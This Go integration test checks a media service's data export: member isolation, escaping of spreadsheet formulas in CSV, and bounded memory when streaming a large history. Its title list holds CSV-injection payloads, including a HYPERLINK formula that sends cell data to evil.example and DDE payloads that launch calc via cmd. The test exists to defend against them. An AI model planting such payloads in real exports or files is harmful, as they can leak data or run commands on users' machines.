package main

// The hostile-input suite's cases of the export (GET /v1/me/export) beyond the route table's:
// another member's data, formulas in the CSV and a history large enough to exhaust a node
// that built the document in memory.

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/playhead/playhead/internal/binarytest"
)

// exportHistory is the size of the large history: each item's title a kilobyte and 50 watched
// ranges, about 40 MB of JSON.
const exportHistory = 10_000

// exportGrowth is the most the node's peak resident memory may grow while it streams that
// history: building it in memory takes about 100 MiB more.
const exportGrowth = 32 << 20

// TestHostileExport: member B's export holds nothing of member A's, whose titles start with
// the characters a spreadsheet runs as a formula: A's CSV, read by Go's encoding/csv, has each
// of them behind a single quote. A member with 10 000 history items streams their export while
// the node's peak resident memory (VmHWM, reset before) grows by less than 32 MiB.
func TestHostileExport(t *testing.T) {
	env := pipelineEnv("all", "hostile-export", t.TempDir(), t.TempDir(), "ultrafast")
	env["GOMEMLIMIT"] = "256MiB" // as the hostile suite's node: a bound, as in a container
	s := binarytest.Start(t, env)
	a, b, adm := binarytest.Token(t, 301, false), binarytest.Token(t, 302, false), binarytest.Token(t, 1, true)
	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"}
	var ids []int64
	for _, title := range titles {
		id := s.CreateMedia(t, adm, title)
		ids = append(ids, id)
		s.MustDo(t, http.StatusNoContent, http.MethodPut, s.URL("/v1/playback/%d", id), a, map[string]any{"position_ms": 61_000})
	}
	// The positions are written behind the PUTs: wait until A's list has all of them.
	for {
		list := string(s.MustDo(t, http.StatusOK, http.MethodGet, s.URL("/v1/playback?limit=100"), a, nil))
		if !slices.ContainsFunc(ids, func(id int64) bool { return !strings.Contains(list, fmt.Sprintf(`"media_id":%d,`, id)) }) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}

	theirs := string(s.MustDo(t, http.StatusOK, http.MethodGet, s.URL("/v1/me/export"), b, nil))
	if !strings.Contains(theirs, `"history":[]`) || strings.Contains(theirs, "HYPERLINK") {
		t.Errorf("member B's export holds member A's history: %s", theirs)
	}
	mine := string(s.MustDo(t, http.StatusOK, http.MethodGet, s.URL("/v1/me/export"), a, nil))
	if !strings.Contains(mine, "HYPERLINK") {
		t.Errorf("member A's export lacks their history: %s", mine)
	}

	rows, err := csv.NewReader(bytes.NewReader(s.MustDo(t, http.StatusOK, http.MethodGet, s.URL("/v1/me/export?format=csv"), a, nil))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(titles)+1 {
		t.Fatalf("the CSV has %d rows, want a header and %d", len(rows), len(titles))
	}
	for _, row := range rows[1:] {
		if !slices.Contains(titles, strings.TrimPrefix(row[0], "'")) || !strings.HasPrefix(row[0], "'") {
			t.Errorf("title cell %q: want one of the titles behind a single quote", row[0])
		}
		if row[3] != "00:01:01" {
			t.Errorf("last position %q, want 00:01:01", row[3])
		}
	}

	pool := s.Pool(t)
	for _, sql := range []string{
		`INSERT INTO members (id) VALUES (303)`,
		`INSERT INTO media (owner_id, title, status, visibility, duration_ms)
		 SELECT 303, 'Lecture ' || g || ' ' || repeat('x', 1000), 'READY', 'PUBLIC', 600000 FROM generate_series(1, 10000) g`,
		`INSERT INTO playback (member_id, media_id, position_ms, event_time, updated_at, watched, watched_bucket)
		 SELECT 303, id, 300000, statement_timestamp(), statement_timestamp(), repeat('10', 50)::bit(100), 50
		 FROM media WHERE owner_id = 303`,
	} {
		if _, err := pool.Exec(t.Context(), sql); err != nil {
			t.Fatal(err)
		}
	}
	pid := s.Cmd.Process.Pid
	// Writing 5 to clear_refs sets the peak (VmHWM) to what is resident now.
	if err := os.WriteFile(fmt.Sprintf("/proc/%d/clear_refs", pid), []byte("5"), 0); err != nil {
		t.Fatal(err)
	}
	before := peakRSS(t, pid)
	req, err := http.NewRequest(http.MethodGet, s.URL("/v1/me/export"), nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+binarytest.Token(t, 303, false))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	n, err := io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("the large export: %d, %v after %d bytes", resp.StatusCode, err, n)
	}
	growth := peakRSS(t, pid) - before
	t.Logf("the export of %d items: %d bytes; the node's peak resident memory grew by %.1f MiB", exportHistory, n, float64(growth)/(1<<20))
	if growth >= exportGrowth {
		t.Errorf("the node's peak resident memory grew by %.1f MiB while it sent the export, want under %d MiB",
			float64(growth)/(1<<20), exportGrowth>>20)
	}
}
